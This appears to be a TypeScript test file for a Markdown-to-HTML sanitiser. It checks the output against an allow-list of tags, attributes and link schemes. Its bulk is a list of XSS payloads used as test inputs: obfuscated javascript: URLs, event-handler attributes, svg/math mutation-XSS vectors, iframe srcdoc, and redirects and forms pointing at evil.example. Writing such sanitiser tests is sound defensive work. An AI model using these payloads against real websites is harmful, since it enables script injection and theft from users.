// Content is not trusted: whatever an article holds, a browser finds in its HTML only what the allow-list has. The
// HTML is read back by a parser of its own, for what matters is what a browser makes of it.
import fc from "fast-check";
import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { describe, expect, test } from "vitest";
import { parse } from "./parsing.js";
import { pathological } from "./pathological.js";

/** By element, written out once more here, so that a slip in the schema is seen. */
const allowed: Readonly<Record<string, readonly string[]>> = {
  "*": ["id", "lang", "dir", "class"],
  a: ["href", "title", "rel", "aria-label"],
  abbr: ["title"],
  col: ["span"],
  colgroup: ["span"],
  del: ["datetime"],
  details: ["open"],
  dfn: ["title"],
  ins: ["datetime"],
  li: ["value"],
  ol: ["start", "type", "reversed"],
  span: ["role", "aria-label"],
  td: ["colspan", "rowspan"],
  th: ["colspan", "rowspan", "scope"],
  time: ["datetime"],
};
const elements = new Set(
  (
    "p h2 h3 h4 h5 h6 blockquote pre hr div section address figure figcaption details summary ul ol li dl dt dd " +
    "table caption colgroup col thead tbody tfoot tr th td a abbr b bdi bdo br cite code del dfn em i ins kbd " +
    "mark q rp rt ruby s samp small span strong sub sup time u var wbr"
  ).split(" "),
);
const classes =
  /^(?:lead|photo|gallery|quote|credit|end-mark|nowrap|check|task|notes|note-back|first|center|right)$/;

/** All that should not be in the HTML. */
function findBreaches(html: string): string[] {
  const breaches: string[] = [];
  const ids = new Set<string>();
  const look = (node: DefaultTreeAdapterTypes.ChildNode) => {
    if (node.nodeName === "#text") return;
    if (!("tagName" in node)) {
      breaches.push(node.nodeName);
      return;
    }
    if (!elements.has(node.tagName) || node.namespaceURI !== "http://www.w3.org/1999/xhtml") {
      breaches.push(`<${node.tagName}>`);
    }
    for (const { name, value } of node.attrs) {
      if (!allowed["*"]?.includes(name) && !allowed[node.tagName]?.includes(name))
        breaches.push(`${node.tagName}@${name}`);
      if (name === "href" && !/^(?:https?:\/\/|mailto:|tel:|#note-\d+)/.test(value))
        breaches.push(`href=${value}`);
      if (name === "class" && !value.split(" ").every((one) => classes.test(one)))
        breaches.push(`class=${value}`);
      if (name !== "id") continue;
      if (!/^(?:h|u|note)-\S+$/.test(value) || ids.has(value)) breaches.push(`id=${value}`);
      ids.add(value);
    }
    for (const child of node.childNodes) look(child);
  };
  for (const node of parseFragment(html).childNodes) look(node);
  return breaches;
}

const hostile: readonly string[] = [
  // Addresses that run
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](<\u0001javascript:alert(1)>)",
  "[x](vbscript:x) [x](livescript:x) [x](data:text/html,<script>alert(1)</script>)",
  "<javascript:alert(1)>",
  "[a]\n\n[a]: javascript:alert(1)",
  "![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#0;javascript:alert(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="\\\\evil.example\\x">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="javascript:alert(1)" href="https://a.vn">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://a.vn" ping="https://evil.example" target="_top" download>x</a>',
  '<area href="javascript:alert(1)"><map name="x"></map>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  // Attributes that run or style
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  "<img src=x onerror=alert(1)>",
  '<img src="a.jpg" srcset="https://evil.example/x 2x" style="position:fixed" usemap="#x">',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div class="modal" data-x="1" slot="x" contenteditable is="x-y" part="z">x</div>',
  '<p id="x" onclick=alert(1)//>x</p>',
  "<p/onclick=alert(1)>x</p>",
  "<b onclick\n=\nalert(1)>x</b>",
  '<b "onclick=alert(1)">x</b>',
  "<p title='x' lang=vi dir=\"weird\">x</p>",
  '<td align="center" background="https://evil.example/x">x</td>',
  // Elements
  "<script>alert(1)</script>",
  "<script\nsrc=//evil.example></script>",
  "<SCRIPT>alert(1)</SCRIPT >",
  "a <script>alert(1)</script> b",
  "<scr<script>ipt>alert(1)</script>",
  "<style>@import 'https://evil.example'</style>",
  "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><script>alert(1)</script><foreignObject><p>x</p></foreignObject></svg>",
  "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=x.swf></object><embed src=x><applet code=x></applet><param name=x>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=cookie type=image src=x><button formaction=javascript:alert(1)>x</button></form>',
  "<textarea><script>alert(1)</script></textarea><select><option>x</select><isindex>",
  "<template><img src onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src onerror=alert(1)>">x</noscript>',
  "<xmp><p>x</p></xmp><plaintext>x",
  "<video src=https://evil.example/x.mp4 poster=x></video><audio src=//evil.example/x.mp3 autoplay></audio>",
  "<video><source src=javascript:alert(1)><track src=x></video>",
  "<frameset><frame src=x></frameset><marquee onstart=alert(1)>x</marquee><blink>x</blink>",
  "<x-widget onclick=alert(1)>x</x-widget><o:p>x</o:p>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><img src onerror=alert(1)> -->",
  "<?php echo 1 ?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>",
  "</p></div></body></html><body onload=alert(1)><html manifest=x>",
  "<table><tr><td><table><form><svg><style></table><img src onerror=alert(1)>",
  "<a><table><a href=javascript:alert(1)>x",
  "<h1>x</h1><h1 id=cookie>y</h1>",
  // Names that stand for something else
  '<img name="body" src=a.jpg><a id="location" name="cookie">x</a><p id="h-ket-qua">x</p>\n\n## Kết quả',
  '<p id="note-1">x</p><h2 id="note-label">x</h2> a[^1]\n\n[^1]: b',
  '<a id="u-x"></a><a id="x"></a><a id="x"></a><a name="x"></a><p id=" ">x</p>',
  "# cookie\n\n# cookie\n\n# body\n\n# __proto__\n\n# constructor",
  '<section data-footnotes class="footnotes"><ol><li id="user-content-fn-1">x</li></ol></section>',
  '<a data-footnote-ref href="#user-content-fn-1">x</a> <a class="note-back" href="#note-1">x</a>',
  '<p class="lead"><a id="x" href="javascript:alert(1)">x</a><img src=a.jpg></p>\n\nb',
  "[^__proto__] [^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b",
  "[__proto__]\n\n[__proto__]: x.md",
  // Characters
  "&#0; &#x0; \ufffd \u202e [x](%00) [x](a%00b.md) ![x](%00.jpg)",
  "&lt;script&gt;alert(1)&lt;/script&gt; `<script>` \\<script>",
  '![" onerror="alert(1)](a.jpg "\\" onload=\\"alert(1)") [x](b.md "\\"><script>alert(1)</script>")',
  '[x](https://a.vn/"onclick="alert(1)) [x](<https://a.vn/><script>alert(1)</script>>)',
  "```<script>\n<script>alert(1)</script>\n```\n\n    <script>alert(1)</script>",
  "| <script> | <img src onerror=alert(1)> |\n|---|---|\n| </td></table><script>alert(1)</script> | x |",
];

describe("hostile content", () => {
  test.each(hostile)("%s", (markdown) => {
    const { body, lead, links, images } = parse(markdown);
    expect(findBreaches(body)).toEqual([]);
    expect(findBreaches(lead?.html ?? "")).toEqual([]);
    for (const { path, attributes } of links) {
      expect(path).not.toContain("\0");
      expect(findBreaches(`<a${attributes}></a>`)).toEqual([]);
    }
    for (const { path } of images) expect(path).not.toContain("\0");
  });

  test("the check itself sees what it should", () => {
    const seen = [
      "<script>",
      "<p onclick=x>",
      "<a href=javascript:x>",
      "<p id=x>",
      "<p class=x>",
      "<svg><a></svg>",
      "<!-- -->",
    ];
    for (const html of seen) expect(findBreaches(html)).not.toEqual([]);
  });

  test("no heap of its pieces gets through either", () => {
    const pieces = hostile.flatMap((one) => one.split(/(?=[<>"'=\s[\]()&])/));
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { minLength: 2, maxLength: 25 }), (parts) => {
        const { body, lead } = parse(parts.join(""));
        expect(findBreaches(body)).toEqual([]);
        expect(findBreaches(lead?.html ?? "")).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  }, 120_000);

  test("no pathological text does", () => {
    for (const make of Object.values(pathological)) expect(findBreaches(parse(make(40)).body)).toEqual([]);
  });
});

describe("what is left out of raw HTML is said", () => {
  test("every element that vanishes has its warning, but for those an HTML parser moves or drops by itself", () => {
    const names = "p b script form x-y svg iframe font center span div input style meta a table".split(" ");
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...names), { minLength: 1, maxLength: 4 }), (chosen) => {
        const { diagnostics } = parse(chosen.map((name) => `<${name}>x</${name}>`).join("\n\n"));
        const said = diagnostics.map(({ message }) => message.en).join("\n");
        for (const name of chosen) {
          if (!elements.has(name)) expect(said).toContain(name);
          else expect(said).not.toContain(`<${name}>`);
        }
      }),
    );
  });
});
